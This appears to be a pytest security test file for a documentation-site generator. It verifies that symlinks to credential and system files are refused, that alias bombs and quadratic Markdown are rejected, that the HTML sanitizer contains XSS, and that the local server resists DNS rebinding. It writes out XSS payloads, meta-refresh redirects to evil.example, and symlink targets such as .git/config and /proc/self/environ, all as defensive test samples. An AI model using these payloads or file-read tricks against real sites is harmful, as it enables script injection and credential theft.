    write_tree(project / ".git", {"config": f'[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic {OUTSIDE_MARKER}\n'})
    docs = project / "docs"
    links = {
        # An absolute link to a system file, and to a file beside the checkout.
        "absolute-etc-hostname": (docs / "en" / "leak.md", Path("/etc/hostname")),
        "absolute-outside-file": (docs / "en" / "leak.md", outside / "secret.md"),
        # Relative, out of the project: ../../../outside/secret.md from docs/en/.
        "relative-out-of-project": (docs / "en" / "leak.md", Path("../../../outside/secret.md")),
        # Where actions/checkout keeps the CI token.
        "relative-git-config": (docs / "en" / "leak.md", Path("../../.git/config")),
        # The build process's own environment (the test sets a marker in it: see the subprocess test).
        "proc-self-environ": (docs / "en" / "leak.md", Path("/proc/self/environ")),
        # A whole language folder that is a link.
        "symlinked-language-folder": (docs / "ru", outside / "lang"),
        # A link that stays inside the project is still a link (the issue: refuse symlinks).
        "link-inside-project": (docs / "en" / "again.md", Path("notes.md")),
    }
    path, target = links[case]
    path.symlink_to(target)
    printed = "../" + path.relative_to(project).as_posix()
    return source, printed


SYMLINK_CASES = ["absolute-etc-hostname", "absolute-outside-file", "relative-out-of-project", "relative-git-config",
                 "symlinked-language-folder", "link-inside-project"]


def assert_refused_at(code: int, out: str, err: str, printed: str) -> None:
    places, broken = output_problems(code, out, err)
    assert code == 1 and not broken, f"exit {code}: {broken}\n{out}{err}"
    assert any(file == printed or file.startswith(printed + "/") for file, _ in places), (
        f"no problem at {printed}:LINE:COLUMN:\n{out}")
    assert OUTSIDE_MARKER not in out + err


@pytest.mark.parametrize("case", SYMLINK_CASES)
def test_a_symlink_in_docs_is_refused_by_validate_and_build(case, tmp_path):
    """A link in docs/ (absolute, relative out of the project, to .git/config, a linked language
    folder, even one that stays inside) is refused at its FILE:LINE by validate and by build,
    which writes nothing: its target's text appears nowhere."""
    source, printed = symlink_project(tmp_path, case)
    assert_refused_at(*run_kbgen("validate", source), printed)
    out_dir = tmp_path / "site"
    assert_refused_at(*run_kbgen("build", "--source", source, "--out", out_dir), printed)
    assert not out_dir.exists()


def test_a_symlink_to_the_process_environment_is_refused(tmp_path):
    """`docs/en/leak.md -> /proc/self/environ`, read by kbgen's own process: its environment (here
    holding a marker, elsewhere a CI token) is refused, not published."""
    source, printed = symlink_project(tmp_path, "proc-self-environ")
    env = {**os.environ, "KBGEN_TEST_SECRET": OUTSIDE_MARKER}
    for args in (["validate", str(source)], ["build", "--source", str(source), "--out", str(tmp_path / "site")]):
        done = subprocess.run([*KBGEN, *args], cwd=PROJECT, env=env, capture_output=True, text=True, timeout=120)
        assert_refused_at(done.returncode, done.stdout, done.stderr, printed)
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize("link", ["file", "folder"])
def test_a_symlink_in_the_yaml_source_is_refused(link, tmp_path):
    """The same for the YAML source: a FAQ file, or the faq/ folder, that is a link to outside."""
    project = tmp_path / "project"
    source = small_shop().write(project)
    outside = plant_outside_marker(project)
    entry = f'entries:\n  - id: secret\n    question: Secret?\n    answer: "{OUTSIDE_MARKER}"\n'
    write_tree(outside, {"faq/more.yml": entry})
    if link == "file":
        (source / "faq" / "more.yml").symlink_to(outside / "faq" / "more.yml")
    else:
        shutil.rmtree(source / "faq")
        (source / "faq").symlink_to(outside / "faq")
    for args in (["validate", source], ["build", "--source", source, "--out", tmp_path / "site"]):
        code, out, err = run_kbgen(*args)
        assert code == 1 and "Traceback" not in out + err, out + err
        assert OUTSIDE_MARKER not in out + err
    assert not (tmp_path / "site").exists()


# --- 5. front matter (see also test_front_matter_that_could_script_or_crash_is_refused_at_its_line) ---------


def test_an_alias_bomb_in_front_matter_is_refused_quickly(tmp_path):
    """380 bytes that expand to a billion items: refused at its line in well under a second of work,
    without a MemoryError (run in a process of its own, so a blow-up cannot take the tests down)."""
    source = small_shop(docs_page=ALIAS_BOMB).write(tmp_path)
    started = time.monotonic()
    done = subprocess.run([*KBGEN, "validate", str(source)], cwd=PROJECT, capture_output=True, text=True, timeout=120)
    elapsed = time.monotonic() - started
    assert done.returncode == 1 and "Traceback" not in done.stdout + done.stderr, done.stdout + done.stderr
    assert "../docs/en/page.md:2:" in done.stdout
    assert elapsed < 20, f"{elapsed:.1f} s"


def test_documented_front_matter_is_accepted_as_text(tmp_path):
    """The other side: a title and a description, as strings, even ones that look like markup."""
    page = '---\ntitle: "Fish & <Chips>"\ndescription: "A \\"quoted\\" page"\n---\n\nText.\n'
    source = small_shop(docs_page=page).write(tmp_path)
    code, out, err = run_kbgen("validate", source)
    assert code == 0, out + err


# --- 6. linear time -------------------------------------------------------------------------------------------

MEGABYTE = 1_000_000
# Shapes that made a parser or a pattern check go quadratic (or worse), each repeated to 1 MB.
PATHOLOGICAL_SHAPES = {
    "reference-brackets": "[x][",  # a 24 KB answer took 30 s to build
    "attribute-braces": "{a",  # a 128 KB answer took 33 s to validate
    "angle-brackets": "<",
    "emphasis": "*a",
    "backticks": "`",
    "nested-brackets": "[",
    "image-openers": "![",
    "link-closers": "](",
}
VALIDATE_LIMIT_S = 20  # generous: the machine is shared; linear code takes a second or two
BUILD_LIMIT_S = 120


def one_megabyte_answer(shape: str) -> str:
    return "Answer " + shape * (MEGABYTE // len(shape))


def timed(args: list[str], limit: float) -> tuple[float, subprocess.CompletedProcess | None]:
    """Run kbgen in its own process; (seconds, result), or (limit, None) when it had to be stopped."""
    started = time.monotonic()
    try:
        done = subprocess.run([*KBGEN, *args], cwd=PROJECT, capture_output=True, text=True, timeout=limit + 10)
    except subprocess.TimeoutExpired:
        return limit + 10, None
    return time.monotonic() - started, done


@pytest.mark.parametrize("shape", list(PATHOLOGICAL_SHAPES))
def test_a_one_megabyte_answer_of_any_shape_validates_in_seconds(shape, tmp_path):
    source = small_shop({"faq answer": one_megabyte_answer(PATHOLOGICAL_SHAPES[shape])}).write(tmp_path)
    elapsed, done = timed(["validate", str(source)], VALIDATE_LIMIT_S)
    assert done is not None, f"validate still running after {elapsed:.0f} s"
    assert done.returncode in (0, 1) and "Traceback" not in done.stdout + done.stderr, done.stdout[-2000:] + done.stderr[-2000:]
    assert elapsed < VALIDATE_LIMIT_S, f"validate took {elapsed:.1f} s"


def test_a_one_megabyte_answer_builds_in_seconds(tmp_path):
    """The shape the issue measured at 30 s for 24 KB. Built once (the slowest part of this module);
    if validation refuses texts that long, the build must refuse it as quickly."""
    source = small_shop({"faq answer": one_megabyte_answer(PATHOLOGICAL_SHAPES["reference-brackets"])}).write(tmp_path)
    validated = subprocess.run([*KBGEN, "validate", str(source)], cwd=PROJECT, capture_output=True, text=True, timeout=120)
    elapsed, done = timed(["build", "--source", str(source), "--out", str(tmp_path / "site")], BUILD_LIMIT_S)
    assert done is not None, f"build still running after {elapsed:.0f} s"
    assert done.returncode == validated.returncode, done.stdout[-2000:] + done.stderr[-2000:]
    assert "Traceback" not in done.stdout + done.stderr
    assert elapsed < BUILD_LIMIT_S, f"build took {elapsed:.1f} s"


# --- 7. the sanitizer's allowlist, tried at random ----------------------------------------------------------

# Pieces of Markdown and HTML that mean something to a parser or a sanitizer.
RISKY_PIECES = [
    "<", ">", "</", "/>", "<script>", "</script>", "<img", "<a", "<svg", "<math>", "<noscript>", "<style>",
    "<template>", "<iframe", "<x:y", "<details", "<form", "<base", "<!--", "-->", "--!>", "<![CDATA[", "]]>", "<?",
    " onerror=", " onclick=", " href=", " src=", " style=", " xlink:href=", " formaction=", " srcdoc=", " id=__",
    "=", '"', "'", "javascript:", "java\tscript:", "java\nscript:", "&#106;avascript:", "&#x6A;", "&colon;",
    "&Tab;", "&#0;", "&lt;", "&amp;", "vbscript:", "data:text/html,", "JaVaScRiPt:", "\x01", "[", "]", "(", ")",
    "![", "]:", "](", "`", "``", "```", "~~~", "{", "}", "{:", "#x", ".c", "\n", "\n\n", " ", "    ", "> ",
    "- ", "1. ", "*", "_", "|", "\\", "x", "alert(1)", "https://a.example/", "mailto:a@b.example", "tel:+1",
    "//evil.example", 'markdown="1"', "\u2028", "<div>", "</div>", "<p>",
]


class _Events(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.events: list[tuple] = []

    def handle_starttag(self, tag, attrs):
        self.events.append(("start", tag, tuple(sorted((name, value or "") for name, value in attrs))))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        self.events.append(("end", tag))

    def handle_data(self, data):
        if self.events and self.events[-1][0] == "data":
            self.events[-1] = ("data", self.events[-1][1] + data)
        else:
            self.events.append(("data", data))


def markup_events(fragment: str) -> list[tuple]:
    """What `fragment` means as markup (tags, attributes in any order, text), not how it is spelled."""
    parser = _Events()
    parser.feed(fragment)
    parser.close()
    return parser.events


def allowlist_problems(fragment: str) -> list[str]:
    """Tags, attributes and URL schemes in `fragment` that the sanitizer's allowlist does not name."""
    from generator.render.shared import sanitize

    allowed_attributes = {tag: set(names) for tag, names in sanitize.ALLOWED_ATTRIBUTES.items()}
    # Attributes the sanitizer sets itself on every image (lazy, no referrer), if it does.
    allowed_attributes.setdefault("img", set()).update(getattr(sanitize, "IMAGE_ATTRIBUTES", {}))
    problems = []
    for element in parse_elements(fragment):
        if element.tag not in sanitize.ALLOWED_TAGS:
            problems.append(f"tag <{element.tag}>")
            continue
        for name, value in element.attrs.items():
            if name not in allowed_attributes.get(element.tag, set()) | allowed_attributes.get("*", set()):
                problems.append(f"attribute {name} on <{element.tag}>")
            if name in URL_ATTRIBUTES or name.endswith(":href"):
                # As a browser reads it: outer blanks and controls trimmed, tabs and newlines removed.
                url = re.sub(r"[\t\n\r]", "", re.sub(r"^[\x00-\x20]+|[\x00-\x20]+$", "", value)).lower()
                scheme = re.match(r"([a-z][a-z0-9+.\-]*):", url)
                if scheme and scheme.group(1) not in sanitize.URL_SCHEMES:
                    problems.append(f"{name}={value!r} on <{element.tag}>")
    return problems


def test_the_sanitizer_neutralizes_every_payload_as_raw_html():
    """`clean_html` on each payload as it is (the HTML a converter would pass through): nothing outside
    the allowlist, nothing that runs."""
    from generator.render.shared.sanitize import clean_html

    failures = []
    for payload in MARKDOWN_PAYLOADS:
        cleaned = clean_html(payload.text)
        problems = allowlist_problems(cleaned) + element_problems(parse_elements(cleaned))
        failures += [f"{payload.name}: {problem}: {cleaned[:100]!r}" for problem in problems]
    assert not failures, "\n".join(failures)


def test_every_payload_through_render_markdown_stays_inside_the_allowlist():
    from generator.render.shared.markup import render_markdown

    failures = []
    for payload in MARKDOWN_PAYLOADS:
        rendered = render_markdown(payload.text)
        elements = parse_elements(rendered)
        problems = allowlist_problems(rendered) + element_problems(elements) + leaky_links(elements)
        failures += [f"{payload.name}: {problem}: {rendered[:100]!r}" for problem in problems]
    assert not failures, "\n".join(failures)


try:
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st
except ImportError:  # pragma: no cover - hypothesis is a test dependency
    given = None

if given is not None:
    RISKY_TEXT = st.lists(st.sampled_from(RISKY_PIECES), max_size=40).map("".join)
    HYPOTHESIS = settings(max_examples=400, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])

    @HYPOTHESIS
    @given(RISKY_TEXT)
    def test_random_risky_markdown_never_leaves_the_allowlist(markdown):
        from generator.render.shared.markup import render_markdown

        rendered = render_markdown(markdown)
        assert not allowlist_problems(rendered), (markdown, rendered)

    @HYPOTHESIS
    @given(RISKY_TEXT)
    def test_sanitized_html_reads_the_same_when_sanitized_again(fragment):
        """Mutation XSS lives where serialized HTML parses into something else: the sanitizer's
        output must be a fixed point of the sanitizer, and inside the allowlist."""
        from generator.render.shared.sanitize import clean_html

        once = clean_html(fragment)
        assert not allowlist_problems(once), (fragment, once)
        twice = clean_html(once)
        assert markup_events(twice) == markup_events(once), (fragment, once, twice)


# --- 8. the small ones ------------------------------------------------------------------------------------


def slot_place(tree: Tree, slot: str) -> tuple[str, int]:
    return next(place for place, name in tree.slot_lines.items() if name == slot)


@pytest.mark.parametrize(("slot", "value"), [
    ("faq id", "track\n"), ("step id", "check\n"), ("extension id", "plus-12\n"), ("branch goto", "close\n"),
])
def test_an_id_ending_in_a_newline_is_refused(slot, value, tmp_path):
    """`$` matches before a final newline: ids are matched whole."""
    tree = small_shop({slot: value})
    code, out, err = run_kbgen("validate", tree.write(tmp_path))
    places, broken = output_problems(code, out, err)
    assert code == 1 and not broken, out + err
    assert slot_place(tree, slot) in places, out


@pytest.mark.parametrize("folder", ["public", "handbook"])
def test_an_out_folder_that_merely_holds_a_site_folder_is_not_replaced(folder, tmp_path):
    """Without kbgen's own marker file, OUT is someone else's, even if it holds only `public/`."""
    source = small_shop().write(tmp_path / "project")
    out = tmp_path / "their-site"
    write_tree(out, {f"{folder}/index.html": "<p>their page</p>\n", f"{folder}/notes.txt": "their notes\n"})
    code, stdout, stderr = run_kbgen("build", "--source", source, "--out", out)
    assert code == 1 and "Traceback" not in stdout + stderr, stdout + stderr
    assert (out / folder / "index.html").read_text(encoding="utf-8") == "<p>their page</p>\n"
    assert (out / folder / "notes.txt").read_text(encoding="utf-8") == "their notes\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["project", "their-site"]


@pytest.mark.parametrize("inside", ["site", "faq/site"])
def test_an_out_folder_inside_the_source_is_refused(inside, tmp_path):
    source = small_shop().write(tmp_path / "project")
    before = sorted(path.relative_to(source).as_posix() for path in source.rglob("*"))
    code, stdout, stderr = run_kbgen("build", "--source", source, "--out", source / inside)
    assert code == 1 and "Traceback" not in stdout + stderr, stdout + stderr
    assert sorted(path.relative_to(source).as_posix() for path in source.rglob("*")) == before


HOST_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>A shop page</title></head>
<body>
<h1>Electric kettle</h1>
<script>window.kbHostKeys = Object.keys(window);</script>
<script src="{widget}" data-lang="en" async></script>
</body></html>
"""


def test_the_widget_leaves_no_globals_and_runs_no_payload_on_a_shop_page(hostile_site, offline_page, serve_folder, tmp_path):
    """A shop page on another origin loads the widget, searches and opens answers full of payloads:
    nothing runs there, and the page's globals are the ones it had (no `lunr`, no `KbWidget`)."""
    page = offline_page
    public = serve_folder(hostile_site.out / "public")
    host = tmp_path / "shop"
    write_tree(host, {"index.html": HOST_PAGE.format(widget=public + "widget/kb-widget.js")})
    host_url = serve_folder(host)
    assert urlsplit(host_url).port != urlsplit(public).port
    watch = Watch(page)
    page.goto(host_url + "index.html", wait_until="load")
    page.locator(".kbw input[type=search]").first.wait_for()
    assert widget_query(page, "script img") > 0
    page.wait_for_timeout(50)
    added = page.evaluate("() => Object.keys(window).filter(key => !window.kbHostKeys.includes(key) && key !== 'kbHostKeys')")
    problems = watch.verdict(watch.dom_problems())
    assert not problems, "\n".join(problems)
    assert added == [], f"the widget left globals on the shop's page: {added}"


def test_a_shop_name_holding_a_comment_and_a_script_tag_leaves_the_widget_demo_working(hostile_site, offline_page, serve_folder):
    """`<!--<script>` in the shop's name once stopped the demo's inline script (the HTML tokenizer
    reads it inside a script, whatever the JSON says): the demo shows the name as text and answers."""
    from generator.validate import load_knowledge_base

    with markdown_checks_off():  # the corpus is valid only without them
        name = load_knowledge_base(hostile_site.source).site.shop.name.strings["en"]
    assert "<!--<script>" in name, "the corpus build did not keep the shop name payload"
    page = offline_page
    watch = Watch(page)
    page.goto(serve_folder(hostile_site.out / "public") + "widget/demo.html?lang=en", wait_until="load")
    assert "<!--<script>" in page.locator("[data-demo=shop]").inner_text(timeout=10_000)
    assert widget_query(page, "script img") > 0
    problems = watch.verdict(watch.dom_problems())
    assert not problems, "\n".join(problems)


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def status_of(port: int, path: str, host: str) -> int:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.putrequest("GET", path, skip_host=True)
        connection.putheader("Host", host)
        connection.endheaders()
        return connection.getresponse().status
    finally:
        connection.close()


def test_kbgen_serve_answers_only_its_own_host_names_and_a_bad_path_with_400(tmp_path):
    """DNS rebinding: a page of evil.example whose name now points at 127.0.0.1 must not read the
    preview. And a NUL in the path is a bad request, not a server error."""
    source = small_shop().write(tmp_path / "project")
    port = free_port()
    process = subprocess.Popen([*KBGEN, "serve", "--source", str(source), "--port", str(port)], cwd=PROJECT,
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        deadline = time.monotonic() + 90
        while True:
            try:
                if status_of(port, "/", f"127.0.0.1:{port}") == 200:
                    break
            except OSError:
                pass
            assert process.poll() is None, process.stdout.read()
            assert time.monotonic() < deadline, "kbgen serve did not start"
            time.sleep(0.2)
        assert status_of(port, "/", f"localhost:{port}") == 200
        assert status_of(port, "/", "evil.example") == 400
        assert status_of(port, "/", f"evil.example:{port}") == 400
        assert status_of(port, "/%00", f"127.0.0.1:{port}") == 400
        assert status_of(port, "/faq/%00/", f"127.0.0.1:{port}") == 400
    finally:
        process.terminate()
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


# --- defence in depth: a sanitizer gap still runs nothing -----------------------------------------------

# What a gap in the sanitizer would let through: an inline script and an event handler.
GAP_MARKUP = f'<script>{PWN}</script><img src="gap-x" onerror="{PWN}">'


def clear_render_caches() -> None:
    """Forget every cached rendering (render_markdown and friends keep converted texts)."""
    for name, module in list(sys.modules.items()):
        if name == "generator" or name.startswith("generator."):
            for value in list(vars(module).values()):
                if callable(getattr(value, "cache_clear", None)) and getattr(value, "__module__", "").startswith("generator"):
                    value.cache_clear()


@contextlib.contextmanager
def sanitizer_with_a_gap():
    """`clean_html`, wherever it is imported (the MkDocs hook imports it at each build), letting
    GAP_MARKUP through after every fragment it cleans."""
    from generator.render.shared import sanitize

    original = sanitize.clean_html

    def leaky(html_text: str) -> str:
        return original(html_text) + GAP_MARKUP

    clear_render_caches()
    try:
        with pytest.MonkeyPatch.context() as patch:
            for name, module in list(sys.modules.items()):
                if getattr(module, "clean_html", None) is original:
                    patch.setattr(module, "clean_html", leaky)
            yield
    finally:
        clear_render_caches()


def test_a_sanitizer_gap_still_runs_nothing_because_of_the_policy(tmp_path, offline_page, serve_folder):
    """The Content-Security-Policy is the second line: were the sanitizer to let a `<script>` and an
    `onerror` through, the policy must still stop both. So it may allow by hash only the inline
    scripts kbgen and Material write, never every inline script found in the finished page."""
    source = small_shop().write(tmp_path / "project")
    with sanitizer_with_a_gap():
        code, out, err = run_kbgen("build", "--source", source, "--out", tmp_path / "site")
    assert code == 0, out + err
    pages = [path for path in html_files(tmp_path / "site") if GAP_MARKUP.split(">")[0] in path.read_text(encoding="utf-8")]
    assert pages, "the simulated gap reached no page: the test proves nothing"
    watch = Watch(offline_page)
    ran = []
    for site in ("public", "handbook"):
        base = serve_folder(tmp_path / "site" / site)
        for path in pages:
            if path.is_relative_to(tmp_path / "site" / site):
                offline_page.goto(base + path.relative_to(tmp_path / "site" / site).as_posix(), wait_until="load")
                offline_page.wait_for_timeout(30)
                pwned = offline_page.evaluate("() => window.__pwned")
                if pwned is not None:
                    ran.append(f"{offline_page.url}: window.__pwned = {pwned}")
    ran += [f"dialog: {d}" for d in watch.dialogs]
    assert not ran, f"script from a sanitizer gap ran on {len(ran)} of {len(pages)} pages:\n" + "\n".join(ran[:20])


# --- found by trying it as an attacker: titles, shop interface files, URLs ---------------------------


def test_a_hand_written_page_s_heading_reaches_its_title_and_navigation_as_text(tmp_path):
    """Without a front-matter title, a page's first heading is its title: written with character
    references (`&lt;/title&gt;`), it must still be text in <title> and in the navigation, never a
    `<meta http-equiv=refresh>` that takes buyers elsewhere."""
    heading = "# Delivery &lt;/title&gt;&lt;meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"&gt;\n\nBody.\n"
    source = small_shop(docs_page=heading).write(tmp_path / "project")
    code, out, err = run_kbgen("build", "--source", source, "--out", tmp_path / "site")
    assert code == 0, out + err
    for path in html_files(tmp_path / "site" / "public"):
        text = path.read_text(encoding="utf-8")
        assert 'http-equiv="refresh"' not in text and "http-equiv=refresh" not in text, path
    page = (tmp_path / "site" / "public" / "page" / "index.html").read_text(encoding="utf-8")
    assert "<title>Delivery &lt;/title&gt;&lt;meta" in page


def test_a_shop_s_interface_strings_are_text_in_the_handbook_and_checked_by_validate(tmp_path):
    """`locales/<lang>.yml` comes through pull requests like the rest: its words for the handbook's
    banner and navigation are text there, a placeholder with a format spec is refused by validate (as
    the build refuses it), and a linked file is not read."""
    source = small_shop().write(tmp_path / "project")
    locales = tmp_path / "project" / "locales"
    locales.mkdir()
    (locales / "en.yml").write_text(
        "handbook:\n"
        "  internal_notice: 'Internal <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">'\n"
        "  procedures: 'Procedures<img src=x onerror=alert(1)>'\n",
        encoding="utf-8",
    )
    code, out, err = run_kbgen("build", "--source", source, "--out", tmp_path / "site")
    assert code == 0, out + err
    for path in html_files(tmp_path / "site" / "handbook"):
        text = path.read_text(encoding="utf-8")
        assert 'http-equiv="refresh"' not in text and "<img src=x" not in text, path

    (locales / "en.yml").write_text("site:\n  questions_count:\n    other: '{n!z} questions'\n", encoding="utf-8")
    for command in (["validate", source], ["build", "--source", source, "--out", tmp_path / "site2"]):
        code, out, err = run_kbgen(*command)
        assert code == 1 and "Traceback" not in out + err
        assert "../locales/en.yml:3:" in out and "write a placeholder as {n} alone" in out

    outside = tmp_path / "outside.yml"
    outside.write_text("handbook:\n  procedures: OUTSIDE-MARKER\n", encoding="utf-8")
    (locales / "en.yml").unlink()
    (locales / "en.yml").symlink_to(outside)
    code, out, err = run_kbgen("validate", source)
    assert code == 1 and "../locales/en.yml:1:1: links are not followed" in out


def test_a_site_url_that_is_no_url_is_refused_at_its_line(tmp_path):
    """`https://[x/` looks like a URL to a pattern and breaks a URL parser: validate says so, no traceback."""
    source = small_shop({"site url": "https://[x/"}).write(tmp_path / "project")
    code, out, err = run_kbgen("validate", source)
    assert code == 1 and "Traceback" not in out + err
    assert "site.yml:" in out and "is not an http(s) URL" in out


def test_a_page_named_after_a_language_is_refused(tmp_path):
    """`docs/en/ru.md` would land where the Russian pages live."""
    source = small_shop().write(tmp_path / "project")
    (tmp_path / "project" / "docs" / "en" / "ru.md").write_text("Hello\n", encoding="utf-8")
    code, out, err = run_kbgen("validate", source)
    assert code == 1 and "../docs/en/ru.md:1:1: 'ru' is one of the site's languages" in out
